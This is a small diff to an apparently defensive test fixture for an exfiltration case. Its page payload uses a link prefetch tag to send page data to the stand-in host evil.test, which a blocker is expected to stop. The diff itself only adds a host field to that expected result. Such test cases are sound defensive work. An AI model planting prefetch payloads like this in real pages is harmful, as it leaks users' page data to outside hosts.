@@ -10,6 +10,6 @@ ATTACK = {
     "risk": "exfiltration",
     "references": ["HTML: link type prefetch", "CWE-201"],
     "arrives": [{"what": "request", "name": "evil.test", "path": "/prefetched*"}],
-    "stopped": [{"reason": ["not-listed"], "entry": ["transparent"]}],
+    "stopped": [{"reason": ["not-listed"], "entry": ["transparent"], "where": {"name": "evil.test"}}],
     "page": "<link rel=prefetch href='http://evil.test/prefetched?data=secret-of-the-page'><h1>News</h1>",
 }
